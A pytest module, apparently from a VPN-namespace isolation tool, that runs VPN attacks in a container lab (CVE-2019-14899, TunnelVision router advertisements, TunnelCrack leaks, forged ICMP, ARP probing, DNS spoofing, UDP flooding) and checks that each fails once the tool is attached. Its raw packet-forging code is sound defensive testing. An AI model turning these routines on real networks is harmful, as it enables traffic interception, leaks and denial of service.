# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on a namespace that services share with a VPN client. Each succeeds
without `attach` and fails with it; the attacker is a neighbour on the
container's network, or the VPN."""
import socket
import struct

import pytest

from lab import container, probe
from lab import host as hosts
from lab.host import until
from lab.leak import SECRET, Ear
from lab.sniff import (ETH_P_ARP, ICMP, TCP, UDP, Sniffer, checksum, icmp_packet,
                       inject, inject_tun, ip_packet, pton, tcp_packet,
                       udp_packet)
from lab.world import (A4, A_VPN4, A_VPN6, B_VPN4, B_VPN6, LAPTOP4, LAPTOP6,
                       MALLORY4, wrong_answers)

SYN, SYN_ACK = 0x02, 0x12


class Scene:
    def __init__(self, docker):
        self.docker = docker
        self.inner, self.mallet = docker.inside('vpn'), docker.inside('mallet')
        self.v4, self.v6 = self.addresses('vpn')
        self.m4, self.m6 = self.addresses('mallet')

    def addresses(self, name):
        net = self.docker.inspect(name)['NetworkSettings']
        return net['IPAddress'], net['GlobalIPv6Address']

    def mac(self, where):
        return where.run('ip', '-br', 'link', 'show', 'eth0').stdout.split()[2]

    def close(self):
        self.inner.__exit__()
        self.mallet.__exit__()


@pytest.fixture(scope='module')
def docker(world):
    world.openvpn.give_a(extra='iroute 172.17.0.0 255.255.0.0\n'
                         f'iroute {MALLORY4} 255.255.255.255\n')
    engine = container.Docker(world.servera, f'{world.dir}/docker')
    container.deployment(engine, world, options=(
        *container.PORTS, '--sysctl', 'net.ipv4.ip_forward=1'))
    engine.service('mallet', 8088, by='mallet', options=(
        '--cap-add', 'NET_ADMIN', '--cap-add', 'NET_RAW'))
    yield engine
    engine.close()
    world.openvpn.give_a()


# Where somebody translates addresses, connections are tracked.
NAT = 'table ip theirs { chain nat { type nat hook postrouting priority 100; }; }'


SERVER = '198.51.100.2:1194/udp'


@pytest.fixture(params=['control', 'attached', 'tracked', 'closed'])
def scene(request, docker, sallyport):
    """`succeeds` is what an attack must do here."""
    scene = Scene(docker)
    scene.succeeds = request.param == 'control'
    if request.param == 'tracked':
        scene.inner.run('nft', NAT)
    closed = ('--server', SERVER) if request.param == 'closed' else ()
    if not scene.succeeds:
        sallyport('attach', *closed, 'vpn', ok=True)
    yield scene
    if not scene.succeeds:
        sallyport('detach', 'vpn', ok=True)
    if request.param == 'tracked':
        scene.inner.run('nft', 'delete table ip theirs')
    scene.close()


@pytest.mark.parametrize('v', [4, 6])
def test_a_neighbour_reaches_the_tunnels_address(world, scene, v):
    """CVE-2019-14899: the weak host model."""
    dst, via = (A_VPN4, scene.v4) if v == 4 else (A_VPN6, scene.v6)
    scene.mallet.run('ip', f'-{v}', 'route', 'replace', dst, 'via', via)
    got = probe.ask(scene.mallet, 'tcp', dst, 80, seconds=1)
    assert got.answered == scene.succeeds


def test_a_neighbour_learns_the_tunnels_address_by_arp(scene):
    me = bytes.fromhex(scene.mac(scene.mallet).replace(':', ''))
    with Sniffer(scene.mallet, 'eth0') as sniffer:
        with scene.mallet.inside():
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
            s.bind(('eth0', 0))
        with s:
            for target in (A_VPN4, scene.v4):  # the second: proof of life
                s.send(b'\xff' * 6 + me + struct.pack('!H', ETH_P_ARP) +
                       struct.pack('!HHBBH6s4s6s4s', 1, 0x800, 6, 4, 1, me,
                                   pton(scene.m4), bytes(6), pton(target)))

        def told(target):
            sniffer.seen()
            return any(a[6:8] == b'\0\2' and a[14:18] == pton(target)
                       for a in sniffer.arps)
        until(lambda: told(scene.v4), 'its own address is told')
        assert told(A_VPN4) == scene.succeeds


def test_the_vpn_has_the_container_answer_a_neighbour(world, scene):
    """A SYN through the tunnel in a neighbour's name."""
    probe.tcp(scene.mallet, scene.v4, 80)  # neighbours know each other
    with Sniffer(scene.mallet, 'eth0') as victim:
        inject_tun(world.vpnsrv, 'tun0',
                   tcp_packet(scene.m4, 4000, scene.v4, 80, SYN))
        seen = victim.wait_for(lambda p: p.src == scene.v4 and
                               p.flags == SYN_ACK and p.dport == 4000,
                               20 if scene.succeeds else 1)
    assert bool(seen) == scene.succeeds


def test_the_vpn_has_the_container_complain_to_a_neighbour(world, scene):
    """What cannot be passed on any more is told to whom it is said to be from."""
    scene.inner.sysctl('net/ipv4/icmp_ratelimit', 0)
    probe.tcp(scene.mallet, scene.v4, 80)  # neighbours know each other
    with Sniffer(scene.mallet, 'eth0', (scene.inner, 'eth0')) as victim:
        for _ in range(20):
            inject_tun(world.vpnsrv, 'tun0', ip_packet(
                scene.m4, MALLORY4, UDP, SECRET, ttl=1))
        seen = victim.wait_for(lambda p: p.src == scene.v4 and
                               p.proto == ICMP, 20 if scene.succeeds else 1)
    assert bool(seen) == scene.succeeds


def pieces(packet):
    """Of the first nothing is seen but eight bytes: no packet that is quoted."""
    v6 = packet[0] >> 4 == 6
    head = packet[:40 if v6 else 20]
    for data, at, more in ((packet[len(head):][:8], 0, 1),
                           (packet[len(head):][8:], 1, 0)):
        if v6:
            yield (head[:4] + struct.pack('!HB', 8 + len(data), 44) + head[7:] +
                   struct.pack('!BBHI', head[6], 0, at << 3 | more, 1) + data)
        else:
            new = (head[:2] + struct.pack('!HHH', 20 + len(data), 77,
                                          more << 13 | at) + head[8:10] +
                   bytes(2) + head[12:])
            yield (new[:10] + struct.pack('!H', checksum(new)) + new[12:] +
                   data)


def too_big(scene, v):
    """The laptop's datagrams are too big for somebody: says the VPN."""
    if v == 4:
        return icmp_packet(
            '192.0.2.1', A_VPN4, 3, 4, struct.pack('!HH', 0, 600),
            ip_packet(scene.v4, LAPTOP4, UDP,
                      struct.pack('!HHHH', 80, 5555, 8, 0)))
    return icmp_packet(
        B_VPN6, A_VPN6, 2, 0, struct.pack('!I', 1300),
        ip_packet(scene.v6, LAPTOP6, UDP, struct.pack('!HHHH', 80, 5555, 8, 0)))


@pytest.mark.parametrize('how', ['whole', 'in pieces'])
@pytest.mark.parametrize('v', [4, 6])
def test_the_vpn_spoils_the_path_to_the_laptop(world, scene, v, how):
    """A forged "fragmentation needed" about the laptop's packets."""
    laptop, own = (LAPTOP4, scene.v4) if v == 4 else (LAPTOP6, scene.v6)

    def mtu():
        packet = too_big(scene, v)
        for part in [packet] if how == 'whole' else pieces(packet):
            inject_tun(world.vpnsrv, 'tun0', part)
        return 'mtu' in scene.inner.run('ip', f'-{v}', 'route', 'get', laptop,
                                        'from', own).stdout
    if scene.succeeds:
        until(mtu, 'the path is spoilt', container.UP)
        scene.inner.run('ip', f'-{v}', 'route', 'flush', 'cache')
    else:
        assert [mtu() for _ in range(20)] == [False] * 20
        assert wrong_answers(world, protos=('tcp',), families=(v,)) == []


def test_a_vpn_peer_uses_the_container_as_a_router(world, scene):
    def heard(ear):
        inject_tun(world.vpnsrv, 'tun0',
                   udp_packet(B_VPN4, 4444, MALLORY4, 4444, SECRET))
        return ear.heard()
    with Ear(world) as ear:
        if scene.succeeds:
            scene.inner.run('ip', 'route', 'replace', MALLORY4, 'via',
                            '172.17.0.1')
            until(lambda: heard(ear), 'it is forwarded', container.UP)
        else:
            assert [heard(ear) for _ in range(20)] == [[]] * 20
    with Ear(world) as ear:  # the ear hears, whatever the container does
        s = world.servera.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(SECRET, (MALLORY4, 4444))
        s.close()
        assert ear.wait_for(lambda p: p.payload == SECRET)


@pytest.fixture
def router(world, scene):
    """The neighbour asks Server B through the container; both have a service."""
    world.vpnsrv.ip('route replace 172.17.0.0/16 dev tun0')
    scene.mallet.run('ip', 'route', 'replace', B_VPN4, 'via', scene.v4)
    service = world.serve(world.serverb, 'b', 8088)
    yield scene
    hosts.stop(service)
    scene.mallet.run('ip', 'route', 'del', B_VPN4)
    world.vpnsrv.ip('route del 172.17.0.0/16 dev tun0')


@pytest.mark.parametrize('proto', ['tcp', 'udp'])
def test_a_neighbour_is_led_into_the_tunnel_and_answered(router, proto):
    assert probe.ask_until_answered(router.mallet, proto, B_VPN4, 8088).by == 'b'


def test_nobody_is_led_out_of_the_tunnel(world, router):
    """Also not to who has just asked there itself."""
    probe.ask_until_answered(router.mallet, 'tcp', B_VPN4, 8088)

    def connects(seconds):
        return probe.tcp(world.serverb, router.m4, 8088,
                         seconds=seconds).answered
    if router.succeeds:
        until(lambda: connects(1), 'it is led out', container.UP)
    else:
        assert not connects(2)


@pytest.mark.parametrize('first', ['ours', 'theirs'])
def test_a_neighbour_draws_a_question_out_of_the_tunnel(world, scene, first):
    """It answers in the name server's stead, and what is asked next would come
    to it: where the client asked first, it is not believed."""
    server, asks = '172.20.0.30', 50053
    s = scene.inner.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('', asks))
    if first == 'ours':
        s.sendto(b'question', (server, 53))
    inject(scene.mallet, 'eth0', scene.mac(scene.inner),
           udp_packet(server, 53, scene.v4, asks, b'forged'))
    until(lambda: s.recv(64) == b'forged' if probe._wait(
        s, 1, probe.time.monotonic() + 1) else False, 'it arrives')
    with Ear(world) as ear:
        s.sendto(SECRET, (server, 53))
        drawn = ear.heard() != []
    s.close()
    # A service that is asked first must answer by the door: it is no client.
    assert drawn == (first == 'theirs' and not scene.succeeds)


ALL_NODES, ALL_NODES_MAC = 'ff02::1', '33:33:00:00:00:01'


def advertisement(sender, prefix):
    """Of a router that is no default one, with an on-link /64."""
    packet = icmp_packet(
        sender, ALL_NODES, 134, 0, struct.pack('!BBH', 64, 0, 0),
        struct.pack('!II', 0, 0) + struct.pack(
            '!BBBBIII', 3, 4, 64, 0x80, 1800, 1800, 0) + pton(prefix))
    return packet[:7] + b'\xff' + packet[8:]


def test_a_neighbour_captures_a_peer_by_an_advertisement(scene):
    """TunnelVision in IPv6: a prefix on the link, inside of what the VPN claims."""
    peer, prefix = 'fd00:16:9::21', 'fd00:16:9::'
    scene.inner.sysctl('net/ipv6/conf/eth0/accept_ra', 2)
    sender = scene.mallet.out('ip', '-br', 'addr', 'show', 'dev', 'eth0',
                              'scope', 'link').split()[2].split('/')[0]

    def captured():
        inject(scene.mallet, 'eth0', ALL_NODES_MAC,
               advertisement(sender, prefix))
        return 'dev eth0' in scene.inner.out('ip', 'route', 'get', peer)
    assert 'dev tun0' in scene.inner.out('ip', 'route', 'get', peer)
    if scene.succeeds:
        until(captured, 'the peer is captured', container.UP)
        scene.inner.run('ip', '-6', 'route', 'del', f'{prefix}/64')
    else:
        assert [captured() for _ in range(20)] == [False] * 20
        assert ' icmpv6 type nd-router-advert counter packets 2' in \
            scene.inner.out('nft', 'list', 'table', 'inet', 'sallyport-attach')


def flood(scene):
    """As many clients of the UDP service as a neighbour can invent."""
    with scene.mallet.inside():
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        s.bind(('eth0', 0))
    head = bytes.fromhex((scene.mac(scene.inner) + scene.mac(scene.mallet)
                          ).replace(':', '')) + struct.pack('!H', 0x800)
    with s:
        for client in ('10.9.0.1', '10.9.0.2'):
            packet = head + ip_packet(client, scene.v4, UDP, struct.pack(
                '!HHHH', 0, 80, 13, 0) + b'flood')
            for port in range(1, 40000):
                s.send(packet[:34] + struct.pack('!H', port) + packet[36:])


def test_a_neighbour_fills_the_memory_of_who_asked_where(world, scene):
    """Clients that it has no room for are answered by no door, rather than by
    the wrong one; those from before are answered."""
    def ask(port):
        return probe.udp(world.laptop, A4, 80, sport=port,
                         seconds=0.5).answered

    def is_full():
        flood(scene)
        name = 'asks_to_' + pton(scene.v4).hex()
        return 'packets 0' not in scene.inner.out(
            'nft', 'list', 'chain', 'inet', 'sallyport-attach', name)
    with Sniffer(world.twin, 'eth0', (world.vpnsrv, 'twin')) as twin:
        def astray():
            return twin.seen(lambda p: p.src == A_VPN4 and p.proto == UDP)
        if scene.succeeds:
            assert not ask(6000)
            until(astray, 'it is answered through the tunnel', container.UP)
            return
        assert ask(6000)
        until(is_full, 'there is no more room', container.UP)
        assert not any(ask(port) for port in range(6001, 6006))
        until(lambda: ask(6000), 'who was there before is answered',
              container.UP)
        assert astray() == []


# As `redirect-gateway def1` of OpenVPN: everything but the way to its server.
EVERYTHING = ('route add 0.0.0.0/1 dev tun0', 'route add 128.0.0.0/1 dev tun0',
              'route add 198.51.100.2/32 via 172.17.0.1')


@pytest.fixture
def everything(scene, sallyport):
    """The tunnel claims everything, and the kill switch is on."""
    scene.inner.ip(*EVERYTHING)
    if not scene.succeeds:
        sallyport('attach', '--server', SERVER, 'vpn', ok=True)
    yield scene
    scene.inner.ip(*(l.replace('add', 'del') for l in EVERYTHING))


def talk(inner, to):
    with inner.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(SECRET, (to, 4444))
        except OSError:
            pass  # refused is as good as dropped: only the wire counts
    probe.ask(inner, 'tcp', to, 4444, seconds=0.2)


def test_the_vpn_servers_address_is_a_hole_in_the_tunnel(world, everything):
    """TunnelCrack, ServerIP: whoever is made to talk to another port of it
    talks past the tunnel."""
    with Ear(world) as ear:
        talk(everything.inner, '198.51.100.2')
        heard = ear.heard()
    assert any('udp' in h for h in heard) == everything.succeeds
    assert any('tcp' in h for h in heard) == everything.succeeds
    if not everything.succeeds:
        assert wrong_answers(world) == []


def test_a_server_in_the_networks_own_range_is_a_neighbour(everything):
    """TunnelCrack, LocalNet: who gives out the addresses of a network chooses
    what the tunnel does not get."""
    with Sniffer(everything.mallet, 'eth0',
                 (everything.inner, 'eth0')) as neighbour:
        talk(everything.inner, everything.m4)
        heard = neighbour.seen(lambda p: p.dport == 4444)
    assert {p.proto for p in heard} == (
        {TCP, UDP} if everything.succeeds else set())
